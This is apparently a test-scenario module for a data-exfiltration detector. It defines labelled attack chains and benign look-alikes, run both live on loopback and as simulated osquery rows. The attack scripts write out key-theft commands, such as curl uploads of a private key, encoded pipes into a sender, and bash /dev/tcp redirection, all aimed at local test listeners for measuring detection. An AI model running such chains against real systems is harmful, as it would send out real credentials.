"""The labelled scenario suite: attacks and look-alikes, run live (native) and as osquery rows.

Every :class:`Scenario` is one chain a person would run on a host, written twice:

* ``scripts``: shell run for real (``sh -c``, each in its own session) against
  a loopback peer of its own (so a detection's ``remote_port`` names its
  scenario), watched by ``readegress watch`` (fanotify + sock_diag);
* ``osquery``: the rows osquery would log for the same commands with its
  default flags: ``process_events`` exec rows (pid, parent, path, cmdline; no
  fork rows, so subshells are invisible), ``process_file_events`` opens of
  catalogue files and ``socket_events`` connects, times in whole seconds.
  They go through the osquery rows mapping
  (:func:`readegress.sources.osquery_rows.event_from_row`) into the one
  :class:`~readegress.detect.core.Correlator`, with no byte counts (a results
  log has none).

Labels: ``attack`` scenarios must be detected (at the default threshold, with
the expected ``scope`` per mode); look-alikes must not. A scenario osquery
cannot see at all says why in ``native_only``. Used by tests/test_scenarios.py
and by ``bash install/dev.sh bench detection`` (precision and recall per mode).
"""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any, Optional

from chain_peers import SENDER, Sink, UdpSink
from readegress.detect.config import Config, load_config
from readegress.detect.core import Correlator, Detection, enrich
from readegress.detect.events import Event, sort_key
from readegress.sources.osquery_rows import (
    FILE_EVENTS,
    PROCESS_EVENTS,
    SOCKET_EVENTS,
    event_from_row,
)

KEY_CLASS = "deploy_keys"
HOST = "scenario-host"
#: Where ``sh`` lives and what the other programs' images are, as osquery logs them.
SH = "/usr/bin/dash"
PY = "/usr/bin/python3.11"


@dataclass
class Ctx:
    """Files and the peer port of one scenario (filled in before it runs)."""

    area: Path
    key: str
    key2: str
    port: int = 0
    py: str = ""

    def fill(self, script: str) -> str:
        return script.format(
            key=self.key, key2=self.key2, port=self.port, dir=self.area, py=self.py
        )


class Rows:
    """osquery rows of one scenario, as its default audit-based tables log them."""

    def __init__(self, t0: int, ctx: Ctx) -> None:
        self.t0 = t0
        self.ctx = ctx
        self.rows: list[tuple[str, dict[str, str]]] = []
        self.pids: dict[str, int] = {"runner": 900}
        self.exes: dict[str, str] = {"runner": "/usr/bin/python3"}
        self._next = 1000
        self._eid = 0

    def _row(self, table: str, dt: float, **cols: object) -> None:
        self._eid += 1
        row = {k: str(v) for k, v in cols.items()}
        row.update(time=str(int(self.t0 + dt)), eid=f"{self._eid:010d}", uid="0", auid="1000")
        self.rows.append((table, row))

    def exec(self, name: str, exe: str, cmdline: str, parent: str = "sh", dt: float = 0.0) -> Rows:
        """``name`` execs ``exe``: a new process (pid allocated) or, if named before, an exec."""
        if name not in self.pids:
            self.pids[name] = self._next
            self._next += 1
        self.exes[name] = exe
        self._row(
            PROCESS_EVENTS,
            dt,
            pid=self.pids[name],
            parent=self.pids[parent],
            path=exe,
            cmdline=self.ctx.fill(cmdline),
            syscall="execve",
        )
        return self

    def fork(self, name: str, parent: str) -> Rows:
        """A child that has not exec'd (osquery logs no fork row by default): a pid only."""
        self.pids[name] = self._next
        self._next += 1
        self.exes[name] = self.exes[parent]
        return self

    def sh(self, script: str, name: str = "sh", dt: float = 0.0) -> Rows:
        return self.exec(name, SH, f"sh -c {script}", parent="runner", dt=dt)

    def read(self, name: str, path: str, dt: float = 0.0, parent: str = "sh") -> Rows:
        self._row(
            FILE_EVENTS,
            dt,
            operation="open",
            pid=self.pids[name],
            ppid=self.pids[parent],
            executable=self.exes[name],
            path=self.ctx.fill(path),
        )
        return self

    def connect(
        self,
        name: str,
        dt: float = 0.0,
        address: str = "127.0.0.1",
        port: Optional[int] = None,
        status: str = "succeeded",
    ) -> Rows:
        self._row(
            SOCKET_EVENTS,
            dt,
            action="connect",
            pid=self.pids[name],
            path=self.exes[name],
            family=10 if ":" in address else 2,
            protocol=0,
            remote_address=address,
            remote_port=self.ctx.port if port is None else port,
            local_address="",
            local_port=0,
            status=status,
            success="1" if status == "succeeded" else "0",
        )
        return self

    def events(self) -> list[Event]:
        out = []
        for table, row in self.rows:
            e = event_from_row(table, row, HOST)
            if e is not None:
                out.append(e)
        out.sort(key=sort_key)
        return out


@dataclass(frozen=True)
class Scenario:
    name: str
    attack: bool
    description: str
    scripts: tuple[str, ...]
    osquery: Callable[[Rows], object]
    peer: str = "raw"  # raw | http | udp | v6 | closed | free
    scope: Optional[str] = None  # expected scope (native); attacks only
    osquery_scope: Optional[str] = None  # expected scope in osquery rows, if different
    native_only: str = ""  # why osquery rows cannot show this chain at all
    background: bool = False  # runs while the others run (a long delay)
    #: Native: every member lives long enough for its pipe inodes to be read
    #: (two members; a middle one may exit first), so pipe_shared is expected.
    proven_pipe: bool = False

    @property
    def expected_osquery_scope(self) -> Optional[str]:
        return self.osquery_scope or self.scope


def _py(extra: str) -> str:
    return "{py} {port} " + extra


A, L = True, False
SCENARIOS: tuple[Scenario, ...] = (
    # ------------------------------------------------------------------ attacks
    Scenario(
        "curl_multipart", A, "curl -F uploads the key",
        ("curl -s -o /dev/null -H Expect: -F file=@{key} http://127.0.0.1:{port}/up",),
        lambda r: r.sh("curl").exec("curl", "/usr/bin/curl", "curl -F file=@{key}")
        .read("curl", "{key}").connect("curl"),
        peer="http", scope="process",
    ),
    Scenario(
        "curl_data_binary", A, "curl --data-binary posts the key",
        ("curl -s -o /dev/null -H Expect: --data-binary @{key} http://127.0.0.1:{port}/up",),
        lambda r: r.sh("curl").exec("curl", "/usr/bin/curl", "curl --data-binary @{key}")
        .read("curl", "{key}").connect("curl"),
        peer="http", scope="process",
    ),
    Scenario(
        "cat_pipe", A, "cat key | sender (a pipe joins them)",
        ("cat {key} | " + _py("--stdin 1 --hold 0.02"),),
        lambda r: r.sh("pipe").exec("cat", "/usr/bin/cat", "cat {key}")
        .exec("py", PY, "python3 sender.py {port} --stdin 1").read("cat", "{key}")
        .connect("py"),
        scope="pipeline", proven_pipe=True,
    ),
    Scenario(
        "cat_base64_pipe", A, "cat key | base64 | sender (two pipes, an encoder)",
        ("cat {key} | base64 | " + _py("--stdin 1 --hold 0.02"),),
        lambda r: r.sh("pipe").exec("cat", "/usr/bin/cat", "cat {key}")
        .exec("b64", "/usr/bin/base64", "base64")
        .exec("py", PY, "python3 sender.py {port} --stdin 1").read("cat", "{key}")
        .connect("py"),
        scope="pipeline",
    ),
    Scenario(
        "tar_openssl_pipe", A, "tar czf - key | openssl enc | sender (packer and encryptor)",
        (
            "tar czf - -C {dir} deploy.key | openssl enc -aes-256-cbc -pbkdf2 -pass pass:x | "
            + _py("--stdin 1 --hold 0.02"),
        ),
        lambda r: r.sh("pipe").exec("tar", "/usr/bin/tar", "tar czf - -C {dir} deploy.key")
        .exec("ossl", "/usr/bin/openssl", "openssl enc -aes-256-cbc -pbkdf2 -pass pass:x")
        .exec("py", PY, "python3 sender.py {port} --stdin 1").read("tar", "{key}")
        .connect("py"),
        scope="pipeline",
    ),
    Scenario(
        "xxd_pipe", A, "xxd -p key | sender (hex encoder)",
        ("xxd -p {key} | " + _py("--stdin 1 --hold 0.02"),),
        lambda r: r.sh("pipe").exec("xxd", "/usr/bin/xxd", "xxd -p {key}")
        .exec("py", PY, "python3 sender.py {port} --stdin 1").read("xxd", "{key}")
        .connect("py"),
        scope="pipeline", proven_pipe=True,
    ),
    Scenario(
        "gzip_pipe", A, "gzip -c key | sender (compressed)",
        ("gzip -c {key} | " + _py("--stdin 1 --hold 0.02"),),
        lambda r: r.sh("pipe").exec("gz", "/usr/bin/gzip", "gzip -c {key}")
        .exec("py", PY, "python3 sender.py {port} --stdin 1").read("gz", "{key}")
        .connect("py"),
        scope="pipeline", proven_pipe=True,
    ),
    Scenario(
        "two_keys_pipe", A, "cat key key2 | sender (two catalogue files)",
        ("cat {key} {key2} | " + _py("--stdin 1 --hold 0.02"),),
        lambda r: r.sh("pipe").exec("cat", "/usr/bin/cat", "cat {key} {key2}")
        .exec("py", PY, "python3 sender.py {port} --stdin 1").read("cat", "{key}")
        .read("cat", "{key2}").connect("py"),
        scope="pipeline", proven_pipe=True,
    ),
    Scenario(
        "copy_then_send", A, "cp key elsewhere, then curl uploads the copy (script steps)",
        (
            "cp {key} {dir}/copy.bin && curl -s -o /dev/null -H Expect: "
            "--data-binary @{dir}/copy.bin http://127.0.0.1:{port}/up",
        ),
        lambda r: r.sh("steps").exec("cp", "/usr/bin/cp", "cp {key} {dir}/copy.bin")
        .read("cp", "{key}").exec("curl", "/usr/bin/curl", "curl --data-binary @{dir}/copy.bin")
        .connect("curl"),
        peer="http", scope="session", osquery_scope="pipeline",
    ),
    Scenario(
        "split_then_send", A, "split the key in 1000-byte parts, one upload per part",
        ("split -b 1000 {key} {dir}/part_ && for f in {dir}/part_*; do "
         + _py("--file $f --hold 0.02") + "; done; rm -f {dir}/part_*",),
        lambda r: r.sh("steps").exec("split", "/usr/bin/split", "split -b 1000 {key}")
        .read("split", "{key}")
        .exec("p1", PY, "python3 sender.py {port} --file part_aa").connect("p1")
        .exec("p2", PY, "python3 sender.py {port} --file part_ab").connect("p2")
        .exec("p3", PY, "python3 sender.py {port} --file part_ac", dt=1).connect("p3", dt=1),
        scope="session", osquery_scope="pipeline",
    ),
    Scenario(
        "redirect_exec", A, "sh -c 'exec sender < key': the shell reads, execs the sender",
        ("exec " + _py("--stdin 1 --hold 0.02") + " < {key}",),
        lambda r: r.sh("redirect").read("sh", "{key}", parent="runner")
        .exec("sh", PY, "python3 sender.py {port} --stdin 1", parent="runner").connect("sh"),
        scope="process",
    ),
    Scenario(
        "redirect_in_parent", A,
        "sh -c 'sender < key; ...': dash opens the key itself, the child inherits it",
        (_py("--stdin 1 --hold 0.02") + " < {key}",),
        lambda r: r.sh("redirect").read("sh", "{key}", parent="runner")
        .exec("child", PY, "python3 sender.py {port} --stdin 1").connect("child"),
        scope="lineage",
    ),
    Scenario(
        "dev_tcp", A, "bash -c 'cat key > /dev/tcp/127.0.0.1/PORT'",
        ("bash -c 'cat {key} > /dev/tcp/127.0.0.1/{port}'",),
        lambda r: r.sh("x").exec("bash", "/usr/bin/bash", "bash -c 'cat {key} > /dev/tcp'")
        .fork("child", "bash").connect("child")
        .exec("child", "/usr/bin/cat", "cat {key}", parent="bash")
        .read("child", "{key}", parent="bash"),
        scope="process",
    ),
    Scenario(
        "dev_tcp_held", A, "sleep | bash -c 'cat key - > /dev/tcp/...': the connection stays open",
        ("sleep 0.3 | bash -c 'cat {key} - > /dev/tcp/127.0.0.1/{port}'",),
        lambda r: r.sh("x").exec("sleep", "/usr/bin/sleep", "sleep 0.3")
        .exec("bash", "/usr/bin/bash", "bash -c 'cat {key} - > /dev/tcp'")
        .fork("child", "bash").connect("child")
        .exec("child", "/usr/bin/cat", "cat {key} -", parent="bash")
        .read("child", "{key}", parent="bash"),
        scope="process",
    ),
    Scenario(
        "delayed_sender", A, "reads the key, waits 11 s, then sends it",
        (_py("--file {key} --delay 11 --hold 0.02"),),
        lambda r: r.sh("x").exec("py", PY, "python3 sender.py {port} --file {key} --delay 11")
        .read("py", "{key}").connect("py", dt=11),
        scope="process", background=True,
    ),
    Scenario(
        "child_reads_parent_sends", A, "a program runs cat key as its child and sends the output",
        (_py("--child-read {key} --hold 0.02"),),
        lambda r: r.sh("x").exec("py", PY, "python3 sender.py {port} --child-read {key}")
        .exec("cat", "/usr/bin/cat", "cat {key}", parent="py").read("cat", "{key}", parent="py")
        .connect("py"),
        scope="lineage",
    ),
    Scenario(
        "ipv6", A, "reads the key and sends it to ::1",
        (_py("--file {key} --host ::1 --hold 0.02"),),
        lambda r: r.sh("x").exec("py", PY, "python3 sender.py {port} --file {key} --host ::1")
        .read("py", "{key}").connect("py", address="::1"),
        peer="v6", scope="process",
    ),
    Scenario(
        "udp", A, "reads the key and sends it in UDP datagrams",
        (_py("--file {key} --udp 1 --hold 0.3"),),
        lambda r: r.sh("x").exec("py", PY, "python3 sender.py {port} --file {key} --udp 1")
        .read("py", "{key}").connect("py"),
        peer="udp", scope="process",
    ),
    Scenario(
        "long_lived_socket", A, "a connection opened before the read carries the key after it",
        (_py("--early 0.3 --file {key} --hold 0.02"),),
        lambda r: r,
        scope="process",
        native_only="osquery logs the connect only; bytes moving later on it are invisible",
    ),
    # ------------------------------------------------------------------ look-alikes
    Scenario(
        "keygen_then_status_get", L, "deploy step: ssh-keygen -lf key, then a small status GET",
        ("ssh-keygen -lf {key} >/dev/null; curl -s -o /dev/null http://127.0.0.1:{port}/status",),
        lambda r: r.sh("steps").exec("kg", "/usr/bin/ssh-keygen", "ssh-keygen -lf {key}")
        .read("kg", "{key}").exec("curl", "/usr/bin/curl", "curl -s http://127.0.0.1/status")
        .connect("curl"),
        peer="http",
    ),
    Scenario(
        "fingerprint_then_check", L, "key fingerprint, then a status check by a script",
        ("ssh-keygen -lf {key} >/dev/null && " + _py("--data ping --hold 0.02"),),
        lambda r: r.sh("steps").exec("kg", "/usr/bin/ssh-keygen", "ssh-keygen -lf {key}")
        .read("kg", "{key}").exec("py", PY, "python3 check.py {port} --data ping")
        .connect("py"),
    ),
    Scenario(
        "checksum_then_get", L, "sha256sum key, then curl a health URL",
        ("sha256sum {key} >/dev/null; curl -s -o /dev/null http://127.0.0.1:{port}/health",),
        lambda r: r.sh("steps").exec("sum", "/usr/bin/sha256sum", "sha256sum {key}")
        .read("sum", "{key}").exec("curl", "/usr/bin/curl", "curl -s http://127.0.0.1/health")
        .connect("curl"),
        peer="http",
    ),
    Scenario(
        "pubkey_then_get", L, "ssh-keygen -y derives the public key, then a GET",
        ("ssh-keygen -y -f {key} > {dir}/pub.txt; curl -s -o /dev/null http://127.0.0.1:{port}/k",),
        lambda r: r.sh("steps").exec("kg", "/usr/bin/ssh-keygen", "ssh-keygen -y -f {key}")
        .read("kg", "{key}").exec("curl", "/usr/bin/curl", "curl -s http://127.0.0.1/k")
        .connect("curl"),
        peer="http",
    ),
    Scenario(
        "parallel_keygen_and_get", L, "ssh-keygen in the background while a GET runs (no pipe)",
        ("ssh-keygen -lf {key} >/dev/null & curl -s -o /dev/null http://127.0.0.1:{port}/s; wait",),
        lambda r: r.sh("steps").exec("kg", "/usr/bin/ssh-keygen", "ssh-keygen -lf {key}")
        .exec("curl", "/usr/bin/curl", "curl -s http://127.0.0.1/s").read("kg", "{key}")
        .connect("curl"),
        peer="http",
    ),
    Scenario(
        "tls_service_reads_its_key", L, "a service loads its key and answers an inbound client",
        (_py("--serve-file {key}") + " & sleep 0.5; {py} {port} --data hi; wait",),
        lambda r: r.sh("svc").exec("srv", PY, "python3 server.py {port} --serve-file {key}")
        .read("srv", "{key}").exec("cli", PY, "python3 client.py {port} --data hi")
        .connect("cli"),
        peer="free",
    ),
    Scenario(
        "passwd_then_get", L, "a package manager reads /etc/passwd, then downloads",
        ("getent passwd root >/dev/null; cat /etc/passwd >/dev/null; "
         "curl -s -o /dev/null http://127.0.0.1:{port}/pkg",),
        lambda r: r.sh("apt").exec("cat", "/usr/bin/cat", "cat /etc/passwd")
        .read("cat", "/etc/passwd").exec("curl", "/usr/bin/curl", "curl -s http://127.0.0.1/pkg")
        .connect("curl"),
        peer="http",
    ),
    Scenario(
        "passwd_pipe", L, "cat /etc/passwd | sender: a low class never alerts alone",
        ("cat /etc/passwd | " + _py("--stdin 1 --hold 0.02"),),
        lambda r: r.sh("pipe").exec("cat", "/usr/bin/cat", "cat /etc/passwd")
        .exec("py", PY, "python3 sender.py {port} --stdin 1").read("cat", "/etc/passwd")
        .connect("py"),
    ),
    Scenario(
        "approved_backup", L, "the approved backup job (curl to the backup port) uploads the key",
        ("curl -s -o /dev/null -H Expect: --data-binary @{key} http://127.0.0.1:{port}/backup",),
        lambda r: r.sh("bk").exec("curl", "/usr/bin/curl", "curl --data-binary @{key}")
        .read("curl", "{key}").connect("curl"),
        peer="http",
    ),
    Scenario(
        "connect_before_read", L, "a connection opened before the read, nothing sent after it",
        (_py("--early 1.2 --file {key} --nosend 1"),),
        lambda r: r.sh("x").exec("py", PY, "python3 agent.py {port} --early 1.2")
        .connect("py").read("py", "{key}", dt=1.2),
    ),
    Scenario(
        "failed_connect", L, "reads the key, the connect is refused",
        (_py("--file {key}"),),
        lambda r: r.sh("x").exec("py", PY, "python3 sender.py {port} --file {key}")
        .read("py", "{key}").connect("py", status="failed"),
        peer="closed",
    ),
    Scenario(
        "read_only", L, "tail reads the key and never connects",
        ("tail -c +1 {key} >/dev/null",),
        lambda r: r.sh("x").exec("tail", "/usr/bin/tail", "tail -c +1 {key}")
        .read("tail", "{key}"),
        peer="free",
    ),
    Scenario(
        "connect_only", L, "a sender that never read a catalogue file",
        (_py("--data hello --hold 0.02"),),
        lambda r: r.sh("x").exec("py", PY, "python3 sender.py {port} --data hello").connect("py"),
    ),
    Scenario(
        "other_file_upload", L, "curl uploads a file that is not in the catalogue",
        ("curl -s -o /dev/null --data-binary @{dir}/notes.txt http://127.0.0.1:{port}/n",),
        lambda r: r.sh("x").exec("curl", "/usr/bin/curl", "curl --data-binary @{dir}/notes.txt")
        .read("curl", "{dir}/notes.txt").connect("curl"),
        peer="http",
    ),
    Scenario(
        "unrelated_session_small", L, "one session reads the key; another, unrelated, says hello",
        ("cat {key} >/dev/null", _py("--data hello --hold 0.02")),
        lambda r: r.sh("a", name="sh").exec("cat", "/usr/bin/cat", "cat {key}")
        .read("cat", "{key}").sh("b", name="sh2").exec("py", PY, "python3 s.py", parent="sh2")
        .connect("py"),
    ),
    Scenario(
        "unrelated_session_bulk", L, "a session reads the key; another uploads 2 MB of other data",
        ("cat {key} >/dev/null", _py("--data x --pad 2000000 --hold 0.02")),
        lambda r: r.sh("a", name="sh").exec("cat", "/usr/bin/cat", "cat {key}")
        .read("cat", "{key}").sh("b", name="sh2").exec("py", PY, "python3 s.py", parent="sh2")
        .connect("py"),
    ),
)  # fmt: skip


def scenario_config(area: Path, key: str, key2: str, backup_port: int) -> Path:
    """The config both modes use: the keys as a high class, loopback egress, the backup approval."""
    path = area / "scenarios.toml"
    path.write_text(
        f"""
egress_classes = ["public", "loopback"]
settle_seconds = 2

[[class]]
name = "{KEY_CLASS}"
level = "high"
paths = ["{key}", "{key2}"]

[[class]]
name = "account_lists"
level = "low"
paths = ["/etc/passwd", "/etc/group"]

[[approved]]
executable = "curl"
class = "{KEY_CLASS}"
destination = "127.0.0.1/32"
port = {backup_port}
owner = "backup team"
reason = "nightly key escrow upload"
"""
    )
    os.chmod(path, 0o600)
    return path


def make_area(area: Path) -> tuple[str, str]:
    """The key files (an RSA private key and a token file) and the sender program."""
    key = area / "deploy.key"
    if not key.exists():
        subprocess.run(
            ["ssh-keygen", "-q", "-t", "rsa", "-b", "3072", "-N", "", "-f", str(key)],
            check=True,
            capture_output=True,
        )
    key2 = area / "token.txt"
    key2.write_text("token = " + "a1b2c3d4" * 64 + "\n")
    (area / "notes.txt").write_text("hello\n")
    (area / "sender.py").write_text(SENDER)
    return str(key), str(key2)


# ---------------------------------------------------------------- osquery mode


def run_osquery(
    s: Scenario, cfg: Config, ctx: Ctx, *, seen_before: bool, t0: int = 1_764_000_000
) -> list[Detection]:
    """Detections at the threshold from the scenario's osquery rows (no byte counts)."""
    rows = Rows(t0, ctx)
    s.osquery(rows)
    c = Correlator(cfg)
    if seen_before:
        # The destination was contacted long before (outside the window).
        first = Rows(t0 - 600, ctx).sh("earlier", name="old")
        first.exec("old_py", PY, "python3 earlier.py", parent="old").connect("old_py")
        first.connect("old_py", address="::1")
        c.feed_many(first.events())
    out = []
    for d in c.feed_many(rows.events()):
        d = enrich(d, bytes_sent=None, config=cfg)
        if d.score >= cfg.threshold:
            out.append(d)
    return out


# ---------------------------------------------------------------- native mode


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


class Watch:
    """``readegress watch --json`` as a subprocess; detections collected as they are printed."""

    def __init__(self, args: list[str], armed_timeout: float = 30.0) -> None:
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "readegress", "watch", "--json", *args],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            start_new_session=True,
        )
        #: (time printed, detection) in the order they were printed
        self.printed: list[tuple[float, dict[str, Any]]] = []
        self.stderr: list[str] = []
        self.armed = threading.Event()
        self._lock = threading.Lock()
        threading.Thread(target=self._read_out, daemon=True).start()
        threading.Thread(target=self._read_err, daemon=True).start()
        if not self.armed.wait(armed_timeout):
            self.stop()
            raise AssertionError(f"watch never armed: {self.stderr}")

    def _read_out(self) -> None:
        assert self.proc.stdout is not None
        for line in self.proc.stdout:
            with self._lock:
                self.printed.append((time.time(), json.loads(line)))

    def _read_err(self) -> None:
        assert self.proc.stderr is not None
        for line in self.proc.stderr:
            self.stderr.append(line.rstrip("\n"))
            if line.startswith("readegress: watching"):
                self.armed.set()

    @property
    def detections(self) -> list[dict[str, Any]]:
        with self._lock:
            return [d for _, d in self.printed]

    def find(self, match: Callable[[dict[str, Any]], bool]) -> list[dict[str, Any]]:
        return [d for d in self.detections if match(d)]

    def wait_for(
        self, match: Callable[[dict[str, Any]], bool], timeout: float = 10.0
    ) -> tuple[float, dict[str, Any]]:
        """The first detection matching (when it was printed), waiting up to ``timeout``."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            with self._lock:
                got = [(t, d) for t, d in self.printed if match(d)]
            if got:
                return got[0]
            time.sleep(0.02)
        raise AssertionError(
            f"no detection matched in {timeout}s; got {self.detections}; stderr {self.stderr}"
        )

    def stop(self) -> int:
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
        try:
            return self.proc.wait(30)
        finally:
            if self.proc.poll() is None:
                self.proc.kill()


@dataclass
class NativeResult:
    """What the live run of every scenario produced."""

    detections: dict[str, list[dict[str, Any]]] = field(default_factory=dict)
    errors: dict[str, str] = field(default_factory=dict)
    stderr: list[str] = field(default_factory=list)
    retried: list[str] = field(default_factory=list)  # attacks missed once, run again


@contextmanager
def _peer(kind: str, stack: ExitStack) -> Iterator[int]:
    if kind == "raw":
        yield stack.enter_context(Sink(delay=0.02)).port
    elif kind == "http":
        yield stack.enter_context(Sink(http=True, delay=0.02)).port
    elif kind == "v6":
        yield stack.enter_context(Sink(delay=0.02, host="::1")).port
    elif kind == "udp":
        u = UdpSink()
        stack.callback(u.close)
        yield u.port
    else:  # closed / free: nothing listens (a service of the scenario may)
        yield free_port()


def run_native(
    area: Path,
    key: str,
    key2: str,
    scenarios: tuple[Scenario, ...] = SCENARIOS,
    *,
    detect_timeout: float = 40.0,
    quiet_wait: float = 4.0,
    retry_missed: bool = False,
) -> NativeResult:
    """Run every scenario for real under one ``readegress watch``; detections by scenario.

    Each scenario has a loopback peer of its own, so a detection belongs to the
    scenario whose port it names. Scripts run one after the other (a
    ``background`` one alongside), each in its own ``sh`` and session; then the
    run waits until every attack is reported (or ``detect_timeout``) and
    ``quiet_wait`` more, and stops the watch (which settles what is pending).
    With ``retry_missed`` an attack still unreported then is run once more (a
    machine loaded by other work can starve the sources for a moment); the
    retries are listed in :attr:`NativeResult.retried`.
    """
    result = NativeResult()
    with ExitStack() as stack:
        ports: dict[str, int] = {}
        for s in scenarios:
            ports[s.name] = stack.enter_context(_peer(s.peer, stack))
        backup = ports.get("approved_backup", 1)
        cfg = scenario_config(area, key, key2, backup)
        py = f"{sys.executable} {area / 'sender.py'}"
        # The peers exist first: the watch's first poll knows their listeners.
        watch = Watch(["--config", str(cfg)])
        background: list[tuple[Scenario, subprocess.Popen[str]]] = []

        def start(s: Scenario, script: str) -> subprocess.Popen[str]:
            ctx = Ctx(area, key, key2, ports[s.name], py)
            return subprocess.Popen(
                ["sh", "-c", ctx.fill(script) + "; exit $?"],
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                stdin=subprocess.DEVNULL,
                text=True,
                start_new_session=True,
            )

        def finish(s: Scenario, p: subprocess.Popen[str]) -> None:
            out, err = p.communicate(timeout=60)
            if p.returncode != 0:
                result.errors[s.name] = f"exit {p.returncode}: {out} {err}"

        def wait_attacks(timeout: float) -> set[int]:
            """Ports of attacks not reported yet when all are, or at the timeout."""
            attacks = {ports[s.name] for s in scenarios if s.attack}
            deadline = time.monotonic() + timeout
            while True:
                missing = attacks - {d["remote_port"] for d in watch.find(lambda d: True)}
                if not missing or time.monotonic() > deadline:
                    return missing
                time.sleep(0.1)

        try:
            for s in sorted(scenarios, key=lambda s: not s.background):
                for script in s.scripts:
                    p = start(s, script)
                    if s.background:
                        background.append((s, p))
                        continue
                    finish(s, p)
                    time.sleep(0.1)
            for s, p in background:
                finish(s, p)
            missing = wait_attacks(detect_timeout)
            if retry_missed and missing:
                for s in scenarios:
                    if ports[s.name] in missing:
                        result.retried.append(s.name)
                        for script in s.scripts:
                            finish(s, start(s, script))
                wait_attacks(detect_timeout)
            time.sleep(quiet_wait)
        finally:
            rc = watch.stop()
            result.stderr = watch.stderr
            if rc != 0:
                result.errors["watch"] = f"exit {rc}: {watch.stderr}"
        for s in scenarios:
            result.detections[s.name] = watch.find(
                lambda d, port=ports[s.name]: d["remote_port"] == port
            )
    return result


def osquery_ctx(area: Path, key: str, key2: str, port: int = 45000) -> Ctx:
    return Ctx(area, key, key2, port, f"{PY} {area / 'sender.py'}")


def load_scenario_config(area: Path, key: str, key2: str, backup_port: int) -> Config:
    return load_config(scenario_config(area, key, key2, backup_port))


def with_port(ctx: Ctx, port: int) -> Ctx:
    return replace(ctx, port=port)
